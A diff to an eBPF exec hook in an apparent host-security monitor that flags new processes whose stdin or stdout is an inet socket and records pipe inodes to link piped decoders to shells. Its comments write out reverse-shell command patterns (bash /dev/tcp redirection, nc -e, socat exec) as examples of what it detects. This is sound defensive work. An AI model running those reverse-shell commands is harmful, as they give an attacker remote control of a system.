@@ -114,18 +114,44 @@ static __always_inline bool inet_sock(struct sock *sk)
 }
 
 /*
- * Whether the new image reads or writes a network connection as its stdin or stdout, as a
- * reverse shell does (bash -i >& /dev/tcp/host/port 0>&1, nc -e, socat exec): fd 0 or 1 is an
- * inet or inet6 socket. Unix sockets (a service's stdout to journald) and pipes are not. This
- * runs in the execing task after the close-on-exec fds are gone: current's fd table is the new
- * image's. Cost on every exec: for fd 0 and fd 1, a slot read and the inode's mode; a socket
- * adds three reads.
+ * What fd @fd of the new image is, read from current's fd table as the exec completes (the
+ * close-on-exec fds are gone: it is the new image's): true for an inet or inet6 socket, as a
+ * reverse shell has (bash -i >& /dev/tcp/host/port 0>&1, nc -e, socat exec); a pipe or FIFO
+ * gives its inode in @dev and @ino, which the other end shares (a decoder piped into a
+ * shell). Unix sockets (a service's stdout to journald) are neither. Cost on every exec: a
+ * slot read and the inode's mode; a pipe adds two reads, a socket three.
  */
-static __always_inline __u16 stdio_flags(void)
+static __always_inline bool stdio_fd(long fd, __u32 *dev, __u64 *ino)
 {
-	if (inet_sock(fd_sock(0)) || inet_sock(fd_sock(1)))
-		return VIGIL_EXE_STDIO_SOCKET;
-	return 0;
+	struct file *file = fd_file(fd);
+	struct inode *inode;
+	struct socket *sock;
+	umode_t mode;
+
+	*dev = 0;
+	*ino = 0;
+	if (!file)
+		return false;
+	inode = BPF_CORE_READ(file, f_inode);
+	mode = BPF_CORE_READ(inode, i_mode) & S_IFMT;
+	if (mode == S_IFIFO) {
+		*ino = BPF_CORE_READ(inode, i_ino);
+		*dev = BPF_CORE_READ(inode, i_sb, s_dev);
+		return false;
+	}
+	if (mode != S_IFSOCK)
+		return false;
+	sock = BPF_CORE_READ(file, private_data);
+	return inet_sock(sock ? BPF_CORE_READ(sock, sk) : NULL);
+}
+
+/* stdin and stdout of the new image: their pipes in @ev, and VIGIL_EXE_STDIO_SOCKET. */
+static __always_inline __u16 stdio_flags(struct vigil_exec_event *ev)
+{
+	bool in = stdio_fd(0, &ev->stdin_dev, &ev->stdin_ino);
+	bool out = stdio_fd(1, &ev->stdout_dev, &ev->stdout_ino);
+
+	return in || out ? VIGIL_EXE_STDIO_SOCKET : 0;
 }
 
 /*
@@ -224,7 +250,7 @@ int BPF_PROG(handle_exec, struct task_struct *task, pid_t old_pid, struct linux_
 	ev->exe_len = off;
 	if (truncated)
 		flags |= VIGIL_EXEC_EXE_TRUNCATED;
-	ev->exe_flags = exe_flags(BPF_CORE_READ(bprm, file), s->data, off) | stdio_flags();
+	ev->exe_flags = exe_flags(BPF_CORE_READ(bprm, file), s->data, off) | stdio_flags(ev);
 	if (ev->exe_flags & VIGIL_EXE_MEMFD) {
 		/* A memfd is in no directory (the walk gives "/"): its name is "memfd:<name>". */
 		long n = bpf_probe_read_kernel_str(
